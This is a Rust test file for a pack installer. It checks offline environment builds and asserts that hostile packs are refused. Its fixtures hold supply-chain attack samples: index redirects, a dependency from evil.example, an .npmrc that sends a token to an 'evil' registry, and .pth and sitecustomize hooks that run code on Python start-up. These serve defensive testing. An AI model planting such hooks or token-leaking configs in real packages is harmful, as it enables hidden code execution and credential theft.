//! Environments: built offline from wheels and archives made here, reused, pruned; hostile packs touch nothing.

use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::support::{Place, Run, path_variable, snapshot};

/// Makes a wheel `tiny` with a module that knows its version.
pub(crate) fn wheel(directory: &Path, version: &str) {
    let script = r#"
import sys, zipfile
directory, version = sys.argv[1:]
info = f"tiny-{version}.dist-info"
files = {
    "tiny.py": f"VERSION = {version!r}\n",
    f"{info}/METADATA": f"Metadata-Version: 2.1\nName: tiny\nVersion: {version}\n",
    f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
files[f"{info}/RECORD"] = "".join(f"{name},,\n" for name in [*files, f"{info}/RECORD"])
with zipfile.ZipFile(f"{directory}/tiny-{version}-py3-none-any.whl", "w") as archive:
    for name, text in files.items():
        archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), text)
"#;
    fs::create_dir_all(directory).unwrap();
    let done = Command::new("python3")
        .args(["-c", script, directory.to_str().unwrap(), version])
        .status()
        .unwrap();
    assert!(done.success());
}

/// Makes an archive `tiny-1.0.0.tgz` of a Node.js package whose lifecycle scripts write to `canary`.
fn tarball(directory: &Path, canary: &Path) {
    let package = directory.join("package");
    fs::create_dir_all(&package).unwrap();
    let run = format!("echo ran > {}", canary.display());
    let manifest = json!({"name": "tiny", "version": "1.0.0", "main": "index.js",
        "scripts": {"preinstall": run, "install": run, "postinstall": run}});
    fs::write(package.join("package.json"), manifest.to_string()).unwrap();
    fs::write(package.join("index.js"), "module.exports = 'tiny';\n").unwrap();
    let done = Command::new("tar")
        .args(["-czf", "tiny-1.0.0.tgz", "package"])
        .current_dir(directory)
        .status()
        .unwrap();
    assert!(done.success());
    fs::remove_dir_all(package).unwrap();
}

fn write(place: &Place, version: &str, files: &[(&str, &str)]) {
    let root = place.path("demo");
    fs::create_dir_all(root.join("actions")).unwrap();
    let manifest = format!("ref: demo\nlabel: Demo\nversion: {version}\n");
    fs::write(root.join("pack.yaml"), manifest).unwrap();
    for (path, text) in files {
        let path = root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

/// Installs `./demo` without the network, and with these variables.
pub(crate) fn install(place: &Place, code: i32, with: &[(&str, &str)]) -> Run {
    let output = place
        .attune(&[
            "pack",
            "install",
            "./demo",
            "--offline",
            "--force",
            "--json",
        ])
        .envs(with.iter().copied())
        .output()
        .unwrap();
    let run = Run::of(&output);
    assert_eq!(output.status.code(), Some(code), "{run:?}");
    run
}

pub(crate) fn keys(run: &Run) -> Value {
    run.json()["packs"][0]["environments"].clone()
}

const ACTION: &str = "ref: demo.say\nrunner_type: python\nentry_point: say.py\n";

/// A pack that needs the first of the two wheels it brings along, with a test and an action that use it.
pub(crate) fn with_wheels() -> Place {
    let place = Place::new();
    wheel(&place.path("demo/wheels"), "1.0.0");
    wheel(&place.path("demo/wheels"), "2.0.0");
    let test = "import unittest, tiny\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertEqual(tiny.VERSION, '1.0.0')\n";
    write(
        &place,
        "1.0.0\ntesting: {runners: {python: {type: unittest}}}",
        &[
            (
                "requirements.txt",
                "--find-links wheels\ntiny==1.0.0 # the first\n",
            ),
            ("actions/say.yaml", ACTION),
            (
                "actions/say.py",
                "import tiny, sys\nprint(tiny.VERSION, sys.prefix)\n",
            ),
            ("tests/test_x.py", test),
        ],
    );
    place
}

/// A pack with requirements gets an environment from wheels of its own, its tests and actions run in it, new code
/// uses it again, other requirements do not, and it goes when no generation needs it.
#[test]
fn python_environment_is_built_reused_and_pruned() {
    let place = with_wheels();
    let first = install(&place, 0, &[]);
    let key = keys(&first)["python"].as_str().unwrap().to_owned();
    assert_eq!(first.json()["packs"][0]["tests"]["passed"], 1, "{first:?}");
    let path = place.installed().join(".attune/envs").join(&key);
    let said = place.run(&["action", "execute", "demo.say"], 0);
    assert_eq!(said.stdout.trim(), format!("1.0.0 {}", path.display()));
    let record: Value =
        serde_json::from_slice(&fs::read(path.join("environment.json")).unwrap()).unwrap();
    assert_eq!(
        (&record["package_count"], &record["kind"]),
        (&json!(1), &json!("python"))
    );

    let before = snapshot(&path);
    write(
        &place,
        "1.0.1",
        &[(
            "actions/say.py",
            "import tiny\nprint('new', tiny.VERSION)\n",
        )],
    );
    assert_eq!(keys(&install(&place, 0, &[]))["python"], key.as_str());
    assert_eq!(snapshot(&path), before);
    assert_eq!(
        place.run(&["action", "execute", "demo.say"], 0).stdout,
        "new 1.0.0\n"
    );

    write(
        &place,
        "1.1.0",
        &[("requirements.txt", "./wheels/tiny-2.0.0-py3-none-any.whl\n")],
    );
    let other = keys(&install(&place, 0, &[]))["python"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_ne!(other, key);
    assert_eq!(
        place.run(&["action", "execute", "demo.say"], 0).stdout,
        "new 2.0.0\n"
    );
    place.run(&["pack", "rollback", "demo"], 0);
    assert_eq!(
        place.run(&["action", "execute", "demo.say"], 0).stdout,
        "new 1.0.0\n"
    );
    let pruned = place
        .run(&["pack", "prune", "--keep", "1", "--json"], 0)
        .json();
    assert_eq!(pruned["environments"], 1, "{pruned}");
    assert!(path.exists() && !path.with_file_name(&other).exists());
}

/// The same with pip, where there is no uv, from a directory that the operator names.
#[test]
fn python_environment_is_built_with_pip_from_the_operators_wheels() {
    let place = Place::new();
    wheel(&place.path("operator"), "1.0.0");
    write(
        &place,
        "1.0.0",
        &[
            ("requirements.txt", "tiny\n"),
            ("actions/say.yaml", ACTION),
            ("actions/say.py", "import tiny\nprint(tiny.VERSION)\n"),
        ],
    );
    // A search path with Python and without uv.
    let bin = place.path("bin");
    fs::create_dir(&bin).unwrap();
    let python = Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .unwrap();
    let python = String::from_utf8(python.stdout).unwrap();
    std::os::unix::fs::symlink(python.trim(), bin.join("python3")).unwrap();
    let path = bin.display().to_string();
    let links = json!([place.path("operator")]).to_string();
    let with = [
        ("PATH", path.as_str()),
        ("ATTUNE__ENVIRONMENTS__FIND_LINKS", links.as_str()),
    ];
    let missing = install(&place, 1, &with[..1]);
    assert!(
        missing
            .stderr
            .contains("cannot build the python environment: install packages with pip"),
        "{missing:?}"
    );
    assert!(
        fs::read_dir(place.installed().join(".attune/envs"))
            .unwrap()
            .next()
            .is_none()
    );
    assert_eq!(place.active("demo"), None);
    install(&place, 0, &with);
    assert_eq!(
        place.run(&["action", "execute", "demo.say"], 0).stdout,
        "1.0.0\n"
    );
}

/// A pack with modules gets them by its lock, without its lifecycle scripts, which the operator may allow.
#[test]
fn node_environment_is_built_by_its_lock_without_scripts() {
    if !has("npm") {
        return;
    }
    let place = Place::new();
    let canary = place.path("canary");
    tarball(&place.path("demo/vendor"), &canary);
    write(
        &place,
        "1.0.0",
        &[
            (
                "package.json",
                r#"{"name": "demo", "version": "1.0.0", "dependencies": {"tiny": "file:vendor/tiny-1.0.0.tgz"}}"#,
            ),
            (
                "actions/say.yaml",
                "ref: demo.say\nrunner_type: nodejs\nentry_point: say.js\n",
            ),
            ("actions/say.js", "console.log(require('tiny'));\n"),
        ],
    );
    let lock = Command::new("npm")
        .args([
            "install",
            "--package-lock-only",
            "--offline",
            "--ignore-scripts",
            "--no-audit",
        ])
        .current_dir(place.path("demo"))
        .output()
        .unwrap();
    assert!(lock.status.success(), "{lock:?}");
    let first = install(&place, 0, &[]);
    assert_eq!(
        place.run(&["action", "execute", "demo.say"], 0).stdout,
        "tiny\n"
    );
    assert!(!canary.exists());
    let key = keys(&first)["nodejs"].clone();
    // A new version of the pack that needs the same, also in its manifest and lock.
    for name in ["package.json", "package-lock.json"] {
        let path = place.path("demo").join(name);
        let text = fs::read_to_string(&path).unwrap().replacen(
            "\"version\": \"1.0.0\"",
            "\"version\": \"1.2.0\"",
            1,
        );
        fs::write(path, text).unwrap();
    }
    write(&place, "1.2.0", &[]);
    assert_eq!(keys(&install(&place, 0, &[]))["nodejs"], key);
}

/// Files, what stands in them, and why they are refused.
fn tricks(url: &str) -> Vec<(&'static str, String, &'static str)> {
    let elsewhere = "comes from a place of its own";
    let index = "which index packages come from";
    let lines = [
        (format!("--index-url {url}\ntiny\n"), index),
        (format!("--extra-index-url={url}\ntiny\n"), index),
        (format!("--find-links {url}\ntiny\n"), elsewhere),
        (format!("tiny @ {url}/tiny.whl\n"), elsewhere),
        ("-e .\n".to_owned(), "built from source"),
        (".\n".to_owned(), "built from source"),
        ("-r ../outside.txt\n".to_owned(), "leads out of the pack"),
        (
            "tiny==${ATTUNE_TOKEN}\n".to_owned(),
            "variable of the environment",
        ),
    ];
    let archive = format!("{url}/tiny.tgz");
    let sources = [
        (archive.as_str(), elsewhere),
        ("git+https://evil.example/tiny.git", elsewhere),
        ("evil/tiny", elsewhere),
        ("file:../outside.tgz", "no archive inside the pack"),
    ];
    let run = "package managers run it";
    let npmrc = format!("registry={url}\n//evil/:_authToken=${{ATTUNE_TOKEN}}\n");
    let pnpmfile = "require('fs').writeFileSync('canary', '')".to_owned();
    let manifest = |spec: &str| json!({"dependencies": {"tiny": spec}}).to_string();
    let lines = lines
        .into_iter()
        .map(|(line, why)| ("requirements.txt", line, why));
    let sources = sources.map(|(spec, why)| ("package.json", manifest(spec), why));
    let files = [(".npmrc", npmrc, run), (".pnpmfile.cjs", pnpmfile, run)];
    lines.chain(sources).chain(files).collect()
}

/// Every hostile pack is refused, or its trick does nothing: no canary, no call, nothing installed.
#[test]
fn hostile_packs_touch_nothing() {
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let url = format!("http://{}/simple", server.local_addr().unwrap());
    for (name, text, why) in tricks(&url) {
        let place = Place::new();
        let canary = place.path("canary");
        let setup = format!("open({:?}, 'w')\n", canary.display().to_string());
        write(
            &place,
            "1.0.0",
            &[
                ("setup.py", &setup),
                ("sitecustomize.py", &setup),
                ("evil.pth", &setup),
                (name, &text),
            ],
        );
        if name.starts_with('.') {
            fs::write(
                place.path("demo/package.json"),
                r#"{"dependencies": {"tiny": "1.0.0"}}"#,
            )
            .unwrap();
        }
        fs::write(place.path("outside.txt"), "tiny\n").unwrap();
        let output = place
            .attune(&["pack", "install", "./demo", "--offline"])
            .env("ATTUNE_TOKEN", "t0ken")
            .output()
            .unwrap();
        let run = Run::of(&output);
        assert_eq!(output.status.code(), Some(1), "{text}\n{run:?}");
        assert!(run.stderr.contains(why), "{text}\n{run:?}");
        assert!(!run.stderr.contains("t0ken") && !canary.exists(), "{text}");
        assert_eq!(place.active("demo"), None);
        assert!(server.accept().is_err(), "{text}");
    }
}

/// A wheel that runs code whenever Python starts writes nothing outside its environment while it is installed.
#[test]
fn code_in_wheels_cannot_write_outside_the_environment() {
    let place = Place::new();
    let canary = place.path("canary");
    wheel(&place.path("demo/wheels"), "1.0.0");
    let script = "import sys, zipfile\nwith zipfile.ZipFile(sys.argv[1], 'a') as z:\n    z.writestr('evil.pth', \"import os; os.system('echo x > %s')\\n\" % sys.argv[2])\n    z.writestr('sitecustomize.py', 'open(%r, \"w\")\\n' % sys.argv[2])\n";
    let path = place.path("demo/wheels/tiny-1.0.0-py3-none-any.whl");
    let done = Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(path)
        .arg(&canary)
        .status()
        .unwrap();
    assert!(done.success());
    write(
        &place,
        "1.0.0",
        &[("requirements.txt", "--find-links wheels\ntiny\n")],
    );
    install(&place, 0, &[]);
    assert!(!canary.exists());
}

/// Whether a program is here; said where not, and an error where everything must run.
#[expect(clippy::print_stdout, reason = "a test says that it is skipped")]
fn has(program: &str) -> bool {
    let found = std::env::split_paths(&path_variable()).any(|d| d.join(program).is_file());
    #[expect(clippy::disallowed_methods, reason = "a test's own switch")]
    let must = std::env::var_os("CI").is_some();
    assert!(found || !must, "{program} is missing");
    if !found {
        println!("skipped: {program} is missing");
    }
    found
}
